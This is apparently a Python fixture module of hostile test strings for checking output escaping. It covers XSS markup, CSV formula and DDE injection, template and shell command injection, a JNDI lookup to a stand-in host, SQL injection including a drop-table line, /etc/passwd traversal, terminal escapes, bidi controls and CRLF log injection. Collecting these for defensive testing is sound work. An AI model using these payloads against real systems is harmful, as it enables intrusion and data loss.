# SPDX-License-Identifier: MIT
"""Texts that want more than to be read: by a browser, a terminal, a spreadsheet, a template, a shell, a database or a log."""

# A browser that takes one of these for more than text sets window.owned, or says so in its console.
MARKUP = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg/onload=window.owned=1>",
    "\"><script>window.owned=1</script>",
    "' onmouseover='window.owned=1' x='",
    "\" autofocus onfocus=\"window.owned=1",
    "javascript:window.owned=1",
    "<a href=javascript:window.owned=1>ring</a>",
    "</title><script>window.owned=1</script>",
    "<iframe srcdoc='<script>parent.owned=1</script>'>",
    "<style>*{display:none}</style>",
    "<base href=//owned.invalid/>",
    "<meta http-equiv=refresh content=0;url=//owned.invalid>",
    "<math><mtext><option><style></option><img src=x onerror=window.owned=1>",
    "<form action=//owned.invalid><button>Ring</button>",
    "<!-- --!><script>window.owned=1</script>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "&#60;script&#62;window.owned=1",
    "]]><script>window.owned=1</script>",
)
# A spreadsheet that opens a CSV takes these for formulas.
FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1;1)", "=HYPERLINK(\"http://owned.invalid\";\"ring\")", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1",
            "\uff20SUM(1)", "'=1+1", "''=1+1", "=1+1\",\"=2+2", ";=1+1")
TEMPLATES = ("${7*7}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://owned.invalid/a}", "%s%s%n%x", "{0}", "$(id)", "`id`", "| id", "&& id")
DATABASE = ("Robert'); drop table shift; --", "' or '1'='1", "\\'; select 1; --", "$$; select 1; $$", "% _ %", "1; notify coverage_changed")
PATHS = ("../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd%00.txt", "C:\\Windows\\win.ini", "file:///etc/passwd")
# Seen, and of a shape that breaks columns: no break between letters, letters without a width, marks upon marks, both directions of writing.
SHAPES = ("W" * 90, "Jo\u200bJo\u200c\u200d", "J" + "\u0301" * 40, "\u05d9\u05d5\u05e0\u05d9 \u05db\u05d4\u05df", "\u0639\u0644\u064a \u200fJo", "\U0001f468\u200d\u2695\ufe0f Jo",
          "\u3042" * 45)

SEEN = (*MARKUP, *FORMULAS, *TEMPLATES, *DATABASE, *PATHS, *SHAPES)

# What nobody sees, and what changes what is seen: refused when it is typed, shown as U+FFFD when a calendar brings it.
HIDDEN = ("\u202eeeL miK", "\u2066Jo", "\u2069Jo", "\u202aJo", "\x1b[2J", "\x1b]0;owned\x07", "\x1b]8;;http://owned.invalid\x1b\\ring\x1b]8;;\x1b\\", "\x1b[31mred", "\x1b[6n",
          "\x9b2J", "\x9d0;owned\x9c", "\x90$qm\x9c", "\x07", "\x08\x08\x08over", "\x7f", "a\rb", "\ufeffJo", "\u2028Jo", "\u2029Jo", "\ufff9Jo\ufffb", "\x0e", "\x85Jo")
# A line in a line of a log, of a calendar, of an answer.
LINES = ("Jo\n{\"level\":\"error\",\"event\":\"owned\"}", "Jo\r\nX-Owned: 1", "Jo\r\nEND:VEVENT\r\nBEGIN:VEVENT", "Jo\tKim")
